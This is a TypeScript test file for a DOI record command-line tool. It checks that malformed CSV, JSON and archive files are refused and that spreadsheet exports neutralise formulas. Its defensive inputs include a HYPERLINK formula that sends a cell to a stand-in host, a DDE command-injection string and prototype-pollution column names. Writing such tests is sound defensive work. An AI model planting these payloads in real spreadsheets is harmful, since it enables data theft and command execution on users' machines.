// Spreadsheets, arrays and packed files that are damaged, or made to be taken for something else.
// To add a file that is refused, add a row to REFUSED: its name, its bytes, and what the error
// says.
import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it, vi } from 'vitest';
import { readCsv } from '../../src/formats/spreadsheet/csv-reader.ts';
import { emulate } from '../helpers/emulator.ts';
import { run } from '../helpers/run.ts';
import { accountAt } from '../helpers/server.ts';
import { temporaryDirectory } from '../helpers/temporary.ts';

const HEAD = 'doi,titles[0].title\n';
const ROW = '10.5072/a,One\n';
const LATIN1 = Buffer.from('10.5072/a,\xe9t\xe9\n', 'latin1');

const RESULT = '{"line":1,"doi":"10.5072/a","state":null,"outcome":"failed","errors":[]}\n';

/** A file, by its name and what is wrong with it. */
const REFUSED: Readonly<Record<string, readonly [content: string | Buffer, message: RegExp]>> = {
  'x.csv with an open quote': [
    `${HEAD}${ROW}10.5072/b,"Two\n10.5072/c,Three\n`,
    /x\.csv:3: a cell begins with a quote, but has no closing quote/,
  ],
  'x.csv with a quote in a cell': [`${HEAD}10.5072/b,Two "2"\n`, /x\.csv:2: a quote in the middle/],
  'x.csv with text after a quote': [`${HEAD}10.5072/b,"Two"2\n`, /x\.csv:2: a quote in the middle/],
  'x.csv with more cells than heads': [
    `${HEAD}10.5072/b,Two, three\n`,
    /x\.csv, row 2: there is text to the right/,
  ],
  'x.csv with another encoding': [
    Buffer.concat([Buffer.from(HEAD), LATIN1]),
    /x\.csv, row 2: titles\[0\]\.title is not UTF-8: "\ufffdt\ufffd"\nhint: save it as "CSV UTF-8"/,
  ],
  'x.csv with no heads': [ROW, /x\.csv, row 1: the column "10\.5072\/a" is not known/],
  'x.csv with no rows': [HEAD, /x\.csv holds no record/],
  'x.csv with nothing': ['', /x\.csv is empty/],
  'x.csv with a column twice': [
    `doi,url,url\n10.5072/a,https://a.example,https://b.example\n`,
    /the columns url and url hold the same values/,
  ],
  'x.csv with a column of the prototype': [
    'doi,__proto__\n10.5072/a,x\n',
    /the column "__proto__" is not known/,
  ],
  'x.csv with a constructor': ['doi,creators[0].constructor\n10.5072/a,x\n', /is not known/],
  'x.csv with a far index': ['doi,titles[99999999].title\n10.5072/a,x\n', /is not known/],
  'x.csv with no DOI': [`${HEAD}not a doi,One\n`, /x\.csv, row 2: column doi: /],
  'x.csv with a DOI twice': [`${HEAD}${ROW}10.5072/A,Two\n`, /x\.csv, row 3 has the DOI of row 2/],
  'x.ndjson with results': [RESULT, /x\.ndjson:1: is the result of a run, not a record/],
  'x.json with results': [`[${RESULT}]`, /x\.json:1: is the result of a run, not a record/],
  ...Object.fromEntries(
    ['x.csv', 'x.xlsx', 'x.xls', 'x.ods', 'x.numbers', 'x.ndjson'].map((name) => {
      const bytes = Buffer.from(name === 'x.xls' ? 'd0cf11e0a1b11ae1' : '504b030414000600', 'hex');
      const message = /is a workbook or an archive, not text\nhint: save the table in it as "CSV/;
      return [`${name} with a workbook`, [bytes, message] as const];
    }),
  ),
  'x.ndjson with what validate has found': [
    '{"line":1,"doi":"10.5072/a","state":"draft","valid":true,"findings":[]}\n',
    /x\.ndjson:1: is the result of a run, not a record/,
  ],
  'x.csv.gz with a cut gzip': [
    gzipSync(
      HEAD + Array.from({ length: 999 }, (_, at) => `10.5072/a${at},One\n`).join(''),
    ).subarray(0, -20),
    /cannot unpack .*x\.csv\.gz: it is damaged or incomplete/,
  ],
  'x.json.gz with a damaged gzip': [
    Buffer.concat([gzipSync('[]').subarray(0, 12), Buffer.alloc(20, 7)]),
    /cannot unpack/,
  ],
  'x.json with a cut array': [
    '[\n{"doi":"10.5072/a"},\n{"doi":"10.50',
    /x\.json:3: the list ends before its closing \]/,
  ],
  'x.json with an array without commas': [
    '[\n{"doi":"10.5072/a"}\n{"doi":"10.5072/b"}\n]',
    /x\.json:3:.* \(not valid JSON\)/,
  ],
  'x.json with a comma too many': [
    '[{"doi":"10.5072/a"},\n]',
    /x\.json:2: a record is missing next to a comma/,
  ],
  'x.json with an array and more': [
    '[{"doi":"10.5072/a"}]\n{"doi":"10.5072/b"}',
    /x\.json:2: there is more after the end/,
  ],
  'x.json with two arrays': ['[{"doi":"10.5072/a"}]\n[]', /x\.json:2: there is more after the end/],
  'x.json with a line break in a string': [
    '[{"doi":"10.5072/a","url":"a\nb"}]',
    /x\.json:1:.* a text has no closing quote \(not valid JSON\)/,
  ],
  'x.json with brackets that do not match': ['[{"doi":"a"]]', /x\.json:1\b.*not valid JSON/],
  'x.json with an array of texts': ['["10.5072/a"]', /x\.json:1: holds no JSON object/],
};

describe('a file of records', () => {
  it.each(Object.entries(REFUSED))('%s is refused', async (what, [content, message]) => {
    const [name = ''] = what.split(' ');
    const folder = temporaryDirectory();
    const path = join(folder, name);
    writeFileSync(path, content);
    vi.stubEnv('TMPDIR', folder);
    vi.stubEnv('TEMP', folder);
    const { code, stdout, stderr } = await run(['dois', 'create', '--file', path], {
      env: accountAt(new URL('http://127.0.0.1:1')),
    });
    expect([code, stdout, stderr.replaceAll(path, name)]).toEqual([2, '', message]);
    expect(stderr).not.toContain('\0');
    // The copy that is read has gone.
    expect(readdirSync(folder)).toEqual([name]);
  });

  it('is not taken for another kind because of its text', async () => {
    const given = '// one, two; three\n{"doi":"10.5072/a"}\n';
    const { stderr } = await run(['dois', 'validate', '--file', '-'], { stdin: given });
    expect(stderr).not.toContain('column');
    const prose = await run(['dois', 'validate', '--file', '-'], {
      stdin: 'prefix, 10.5072 and more\n',
    });
    expect(prose.stderr + prose.stdout).toMatch(/column|not valid JSON/);
  });

  it.each(['\n', '\r\n', '\r'])(
    'names rows with line breaks %j as spreadsheets do',
    async (end) => {
      const text = ['doi,titles[0].title', '10.5072/a,"x', 'y"', '', '10.5072/b,z'].join(end);
      const rows: number[] = [];
      async function* bytes() {
        for (const byte of Buffer.from(text)) yield Buffer.from([byte]);
      }
      for await (const { number } of readCsv(bytes(), 'x.csv')) rows.push(number);
      expect(rows).toEqual([1, 2, 3, 4]);
    },
  );
});

describe('a list for a spreadsheet', () => {
  const FORMULAS = [
    '=HYPERLINK("http://a.example?"&A1,"x")',
    "+1+cmd|'/C calc'!A0",
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    ' =1',
  ];

  it.each(['csv', 'tsv'])('runs no formula of a record as %s', async (format) => {
    const emulator = await emulate();
    const stdin = JSON.stringify({
      doi: '10.5072/formula',
      titles: FORMULAS.map((title) => ({ title })),
      creators: FORMULAS.map((name) => ({ name })),
      subjects: FORMULAS.map((subject) => ({ subject })),
    });
    expect((await emulator.run(['dois', 'create', '--file', '-'], { stdin })).code).toBe(0);
    const argv = ['dois', 'list', '--mine', '--state', 'draft', '--format', format];
    const { stdout } = await emulator.run(argv);
    const cells: string[] = [];
    for await (const row of readCsv([Buffer.from(stdout)] as unknown as AsyncIterable<Buffer>, 'x'))
      cells.push(...row.cells);
    expect(cells).toContain(`'${FORMULAS[0]}`);
    expect(cells.filter((cell) => /^\s*[=+@-]/.test(cell) && !/^-?[\d.]+$/.test(cell))).toEqual([]);
  });

  it('does not lose an item of a list, however many there are', async () => {
    const emulator = await emulate();
    const creators = Array.from({ length: 300 }, (_, index) => ({
      name: `Author ${index}`,
      affiliation: [{ name: 'A' }, { name: 'B' }],
    }));
    const stdin = JSON.stringify({ doi: '10.5072/many', titles: [{ title: 'T' }], creators });
    await emulator.run(['dois', 'create', '--file', '-'], { stdin });
    const path = join(temporaryDirectory(), 'many.csv');
    await emulator.run(['dois', 'list', '--mine', '--state', 'draft', '--out', path]);
    const { stdout } = await emulator.run(['dois', 'validate', '--file', path, '--format', 'json']);
    expect(stdout).not.toContain('"severity":"error"');
    const other = await emulate();
    const made = await other.run(['dois', 'create', '--file', path]);
    expect(made.stdout.split('\n')[0]).toMatch(/"10.5072\/many".*"outcome":"created"/);
    const copy = JSON.parse((await other.run(['dois', 'get', '10.5072/many'])).stdout) as {
      attributes: { creators: object[] };
    };
    expect(copy.attributes.creators).toHaveLength(300);
    expect(copy.attributes.creators[299]).toMatchObject(creators[299] as object);
  });
});
